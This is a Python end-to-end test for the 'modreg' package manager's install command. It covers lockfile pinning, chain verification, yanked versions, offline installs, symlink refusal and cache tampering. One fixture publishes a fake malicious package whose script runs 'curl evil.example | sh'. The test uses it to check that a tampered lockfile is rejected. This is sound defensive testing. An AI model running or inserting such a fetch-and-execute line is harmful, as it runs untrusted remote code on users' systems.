"""`modreg install` end to end: resolve on the real chain, fetch from the real IPFS daemon, check
CID, SHA-256 and size, unpack, lock; then --locked, yanked pins, deprecation, --offline with the
daemon and the node stopped, and a tampered cache."""

import json
import os
import subprocess
from pathlib import Path

import pytest

from test_cli import modreg_bin, pair  # noqa: F401  (pair is a fixture)


def modreg(node, ipfs, project, cache, *args, code=0):
    env = dict(os.environ, MODREG_NODE=node.ws, IPFS_API_URL=ipfs.url, MODREG_CACHE_DIR=str(cache), MODREG_SURI="//Alice")
    result = subprocess.run(
        [modreg_bin(), "--json", *args], env=env, cwd=project, capture_output=True, text=True, timeout=300
    )
    assert result.returncode == code, f"modreg {args}: exit {result.returncode}\n{result.stdout}\n{result.stderr}"
    return json.loads(result.stdout)


def tree(root: Path):
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_install_lock_offline(pair, tmp_path):  # noqa: F811
    ipfs, node = pair
    project = tmp_path / "project"
    project.mkdir()
    cache = tmp_path / "cache"
    run = lambda *args, **kw: modreg(node, ipfs, project, cache, *args, **kw)  # noqa: E731

    run("namespace", "claim", "inst")
    src = tmp_path / "src"
    (src / "bin").mkdir(parents=True)
    sources = {}
    for version in ["1.0.0", "1.1.0"]:
        (src / "bin" / "tool.sh").write_text(f"#!/bin/sh\necho {version}\n")
        (src / "bin" / "tool.sh").chmod(0o755)
        (src / "README").write_text(f"tool {version}\n")
        run("publish", str(src), "--name", "inst/tool", "--version", version)
        sources[version] = tree(src)

    out = run("install", "inst/tool@^1")
    assert out["lockfileChanged"] is True and out["installed"][0]["version"] == "1.1.0"
    installed = project / "modreg_modules" / "inst" / "tool"
    assert tree(installed) == sources["1.1.0"]
    assert os.access(installed / "bin" / "tool.sh", os.X_OK)
    lock = json.loads((project / "modreg.lock").read_text())
    assert lock["lockfileVersion"] == 2
    assert lock["requests"] == [{"name": "inst/tool", "range": "^1"}]
    assert lock["block"].startswith("0x") and lock["blockNumber"] > 0
    [entry] = lock["packages"]
    resolved = run("resolve", "inst/tool@=1.1.0")
    assert entry == {
        "name": "inst/tool",
        "version": "1.1.0",
        "cid": resolved["cid"],
        "checksum": resolved["checksum"],
        "size": resolved["size"],
        "block": resolved["publishedAt"],
        "publisher": resolved["publisher"],
        "path": "inst/tool",
        "dependencies": [],
    }

    # A newer matching version does not move a locked install; --locked agrees.
    (src / "README").write_text("tool 1.2.0\n")
    run("publish", str(src), "--name", "inst/tool", "--version", "1.2.0")
    assert run("install")["installed"][0]["version"] == "1.1.0"
    assert run("install", "--locked")["lockfileChanged"] is False
    assert json.loads((project / "modreg.lock").read_text()) == lock, "nothing changed, not even the block"
    assert run("install", "inst/tool@^1", "--locked")["installed"][0]["version"] == "1.1.0"
    refused = run("install", "inst/tool@~1.2", "--locked", code=7)
    assert "would change" in refused["error"]
    assert json.loads((project / "modreg.lock").read_text()) == lock

    # A lockfile edited to name other content (as a pull request could) is refused, online,
    # before anything is fetched: every field of a lock entry is checked against the chain.
    evil_src = tmp_path / "evil"
    evil_src.mkdir()
    (evil_src / "payload.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    evil = run("publish", str(evil_src), "--name", "inst/evil", "--version", "1.0.0")
    evil = run("resolve", "inst/evil@=1.0.0")
    good_lock = (project / "modreg.lock").read_text()
    before_tree = tree(installed)
    swapped = dict(entry, cid=evil["cid"], checksum=evil["checksum"], size=evil["size"])
    (project / "modreg.lock").write_text(json.dumps(dict(lock, packages=[swapped])))
    refused = run("install", "--locked", code=5)
    assert "disagrees with the chain" in refused["error"] and "cid" in refused["error"], refused
    assert tree(installed) == before_tree
    # A version the chain does not have (a reset chain, another --node) is refused too.
    ghost = dict(entry, version="9.9.9")
    (project / "modreg.lock").write_text(json.dumps(dict(lock, packages=[ghost])))
    assert "no such version" in run("install", code=5)["error"]
    # A version 1 lockfile (one entry per request, no graph, no publisher) is checked on what it
    # has, accepted by --locked without a write, and upgraded to version 2 by the next install.
    v1_entry = {k: v for k, v in entry.items() if k not in ("publisher", "path", "dependencies")}
    (project / "modreg.lock").write_text(json.dumps({"lockfileVersion": 1, "packages": [dict(v1_entry, range="^1")]}))
    assert run("install", "--locked")["lockfileChanged"] is False
    assert json.loads((project / "modreg.lock").read_text())["lockfileVersion"] == 1
    assert run("install")["lockfileChanged"] is True
    upgraded = json.loads((project / "modreg.lock").read_text())
    ignore_block = lambda lk: {k: v for k, v in lk.items() if k not in ("block", "blockNumber")}  # noqa: E731
    assert ignore_block(upgraded) == ignore_block(json.loads(good_lock))
    good_lock = (project / "modreg.lock").read_text()

    # Yanked and deprecated versions that are locked still install with --locked, with
    # warnings; without it, install moves off the yanked version.
    run("yank", "inst/tool", "1.1.0")
    run("deprecate", "inst/tool", "--successor", "inst/tool2@^1", "--reason", "renamed")
    warned = run("install", "--locked")
    assert warned["installed"][0]["version"] == "1.1.0"
    assert any("yanked" in w for w in warned["warnings"]) and any("inst/tool2@^1" in w for w in warned["warnings"])
    assert (project / "modreg.lock").read_text() == good_lock
    # An exact pin of a yanked version installs it, with the warning; a range moves off it.
    pinned = run("install", "inst/tool@=1.1.0")
    assert pinned["installed"][0]["version"] == "1.1.0" and any("yanked" in w for w in pinned["warnings"])
    assert run("install", "inst/tool@^1")["installed"][0]["version"] == "1.2.0"
    assert run("install", "inst/tool@^1.1")["lockfileChanged"] is True  # the range; 1.2.0 is kept
    assert json.loads((project / "modreg.lock").read_text())["packages"][0]["version"] == "1.2.0"

    # The Python client locks through modreg's resolver (the same lockfile) and installs the
    # same bytes.
    os.environ.setdefault("MODREG_BIN", modreg_bin())
    from module_registry import Registry
    from module_registry import install as py_install

    py_project = tmp_path / "py-project"
    py_project.mkdir()
    (py_project / "modreg.lock").write_text((project / "modreg.lock").read_text())
    reg = Registry(node.ws)
    try:
        done = py_install.install(reg, ipfs.url, project=py_project)
        assert [d["version"] for d in done] == ["1.2.0"]
        assert tree(py_project / "modreg_modules" / "inst" / "tool") == tree(installed)
        assert (py_project / "modreg.lock").read_text() == (project / "modreg.lock").read_text()
        # Python checks the lockfile against the chain the same way.
        good = (py_project / "modreg.lock").read_text()
        py_entry = json.loads(good)["packages"][0]
        (py_project / "modreg.lock").write_text(
            json.dumps(dict(json.loads(good), packages=[dict(py_entry, cid=evil["cid"], checksum=evil["checksum"])]))
        )
        with pytest.raises(py_install.VerificationError, match="disagrees with the chain"):
            py_install.install(reg, ipfs.url, project=py_project, locked=True)
        (py_project / "modreg.lock").write_text(good)
        # A range the locked version satisfies keeps it; one it does not, with locked=True, refuses.
        assert py_install.install(reg, ipfs.url, ["inst/tool@^1.2"], project=py_project)[0]["version"] == "1.2.0"
        with pytest.raises(py_install.LockChanged):
            py_install.install(reg, ipfs.url, ["inst/tool@=1.0.0"], project=py_project, locked=True)
        pinned = py_install.install(reg, ipfs.url, ["@inst/tool@=1.1.0"], project=py_project)[0]
        assert pinned["version"] == "1.1.0" and any("yanked" in w for w in pinned["warnings"])
        assert tree(py_project / "modreg_modules" / "inst" / "tool") == sources["1.1.0"]
        assert json.loads((py_project / "modreg.lock").read_text())["requests"][0]["range"] == "=1.1.0"
    finally:
        reg.substrate.close()

    # A symbolic link on the way to the destination is refused, in both clients, and what it
    # points to is untouched (a cloned repository could carry `modreg_modules/inst -> $HOME`).
    linked = tmp_path / "linked"
    victim = tmp_path / "victim"
    (victim / "tool").mkdir(parents=True)
    (victim / "tool" / "precious.txt").write_text("keep me\n")
    (linked / "modreg_modules").mkdir(parents=True)
    (linked / "modreg_modules" / "inst").symlink_to(victim)
    refused = modreg(node, ipfs, linked, cache, "install", "inst/tool@^1", code=8)
    assert "symbolic link" in refused["error"], refused
    reg = Registry(node.ws)
    try:
        with pytest.raises(py_install.DestinationError, match="symbolic link"):
            py_install.install(reg, ipfs.url, ["inst/tool@^1"], project=linked)
    finally:
        reg.substrate.close()
    assert (victim / "tool" / "precious.txt").read_text() == "keep me\n"
    assert sorted(p.name for p in (victim / "tool").iterdir()) == ["precious.txt"]

    # Offline: the daemon and the node are gone; the lockfile and the cache suffice.
    ipfs.stop()
    node.stop()
    for child in sorted(installed.rglob("*"), reverse=True):
        child.unlink() if child.is_file() else child.rmdir()
    assert run("install", "--offline")["installed"][0]["version"] == "1.2.0"
    assert (installed / "README").read_text() == "tool 1.2.0\n"
    missing = run("install", "inst/other@^1", "--offline", code=1)
    assert "--offline" in missing["error"]

    # A tampered block in the cache is caught, not installed.
    blocks = [p for p in (cache / "blocks").iterdir() if p.is_file()]
    assert blocks
    for block in blocks:
        data = bytearray(block.read_bytes())
        data[len(data) // 2] ^= 0xFF
        block.write_bytes(bytes(data))
    before = tree(installed)
    tampered = run("install", "--offline", code=5)  # verification failed, as EXIT_CODES.md says
    assert tampered["ok"] is False
    assert tree(installed) == before, "a failed install leaves the previous one in place"
